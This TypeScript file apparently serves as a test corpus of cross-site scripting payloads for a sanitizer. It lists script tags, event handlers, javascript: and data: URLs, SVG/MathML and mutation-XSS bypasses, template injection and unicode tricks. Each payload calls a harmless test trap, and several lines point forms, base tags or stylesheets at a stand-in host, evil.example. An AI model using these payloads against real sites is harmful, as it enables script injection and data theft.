/**
 * An attack corpus written for this project: strings that try to run script, load something, or escape into
 * the page, by kind. Each calls `__xss()` (a trap the tests set) if it ever runs.
 */
export type PayloadKind =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'markdown-url'
  | 'svg-mathml'
  | 'css'
  | 'injection'
  | 'mutation'
  | 'attribute-breaking'
  | 'template'
  | 'unicode';

const base: Record<PayloadKind, string[]> = {
  script: [
    '<script>__xss()</script>',
    '<script src="data:text/javascript,__xss()"></script>',
    '"><script>__xss()</script>',
    "'><script>__xss()</script>",
    '</title><script>__xss()</script>',
    '</textarea><script>__xss()</script>',
    '<scr<script>ipt>__xss()</scr</script>ipt>',
    '<script type="module">__xss()</script>',
    '<<script>script>__xss()<</script>/script>',
    '<SCRIPT>__xss()</SCRIPT>',
    '<script\n>__xss()</script\n>',
  ],
  'event-handler': [
    '<img src=x onerror=__xss()>',
    '<img src="x" onerror="__xss()">',
    '<svg onload=__xss()>',
    '<body onload=__xss()>',
    '<div onmouseover="__xss()">hover</div>',
    '<details open ontoggle=__xss()>',
    '<input autofocus onfocus=__xss()>',
    '<video><source onerror=__xss()></video>',
    '<audio src=x onerror=__xss()>',
    '<marquee onstart=__xss()>x</marquee>',
    '<img src=x oNeRrOr=__xss()>',
    '<img src=x onerror="&#95;&#95;xss()">',
    '<img src=x onerror=&#x5f;&#x5f;xss()>',
    '<select autofocus onfocus=__xss()>',
    '<a href="https://example.org" onclick="__xss()">click</a>',
    '<p onpointerenter=__xss()>x</p>',
  ],
  'url-scheme': [
    '<a href="javascript:__xss()">x</a>',
    '<a href="JaVaScRiPt:__xss()">x</a>',
    '<a href="java&#x09;script:__xss()">x</a>',
    '<a href="&#106;avascript:__xss()">x</a>',
    '<a href=" javascript:__xss()">x</a>',
    '<a href="data:text/html,<script>__xss()</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+">x</a>',
    '<img src="javascript:__xss()">',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="jav\u0000ascript:__xss()">x</a>',
  ],
  'markdown-url': [
    '[click](javascript:__xss())',
    '[click](JAVASCRIPT:__xss())',
    '[click](java&#x09;script:__xss())',
    '[click](javascript&colon;__xss())',
    '[click]( javascript:__xss() )',
    '[click](data:text/html,<script>__xss()</script>)',
    '[click](vbscript:msgbox(1))',
    '![img](javascript:__xss())',
    '![img](https://evil.example/track.png)',
    '<javascript:__xss()>',
    '[ref][r]\n\n[r]: javascript:__xss()',
    '[click](</evil path>)',
    '[x](https://ok.example "a\\" onmouseover=\\"__xss()")',
  ],
  'svg-mathml': [
    '<svg><script>__xss()</script></svg>',
    '<svg><a xlink:href="javascript:__xss()"><text x=0 y=10>x</text></a></svg>',
    '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
    '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>',
    '<svg><set attributeName=onmouseover to=__xss()>',
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
    '<math href="javascript:__xss()">x</math>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=__xss()>#x"/></svg>',
  ],
  css: [
    '<style>*{background:url(javascript:__xss())}</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:__xss())">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">overlay</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div style="behavior:url(x.htc)">x</div>',
  ],
  injection: [
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss()">',
    '<iframe src="javascript:__xss()"></iframe>',
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    '<object data="javascript:__xss()"></object>',
    '<embed src="javascript:__xss()">',
    '<button formaction="javascript:__xss()">x</button>',
    '<isindex action="javascript:__xss()">',
    '<template><img src=x onerror=__xss()></template>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
    '<math><mi><table><mi><style><img src=x onerror=__xss()></style>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
    '<!--<img src=x onerror=__xss()>-->',
    '<![CDATA[<script>__xss()</script>]]>',
    '<xmp><img src=x onerror=__xss()></xmp>',
    '<listing>&lt;img src=x onerror=__xss()&gt;</listing>',
  ],
  'attribute-breaking': [
    '" onmouseover="__xss()" x="',
    "' onfocus='__xss()' autofocus='",
    '"><img src=x onerror=__xss()>',
    '`><img src=x onerror=__xss()>',
    '</trial-summary><img src=x onerror=__xss()>',
    '"/><svg/onload=__xss()>',
  ],
  template: [
    '${__xss()}',
    '{{constructor.constructor("__xss()")()}}',
    '<%= __xss() %>',
    '#{__xss()}',
    '<!--?lit$123$-->',
    '\\${__xss()} escaped',
  ],
  unicode: [
    '\u202e<script>__xss()</script>',
    '\u0000<script>__xss()</script>',
    '＜script＞__xss()＜/script＞',
    '<img src=x onerror=\\u005f\\u005fxss()>',
    '\u2028<img src=x onerror=__xss()>\u2029',
    '\ufeff<svg onload=__xss()>',
    'NCT\u200b00184067 <img src=x onerror=__xss()>',
  ],
};

export const PAYLOAD_KINDS = Object.keys(base) as PayloadKind[];

export const PAYLOADS: { kind: PayloadKind; text: string }[] = PAYLOAD_KINDS.flatMap((kind) =>
  base[kind].map((text) => ({ kind, text })),
);

export function payloadsOf(kind: PayloadKind): string[] {
  return base[kind];
}
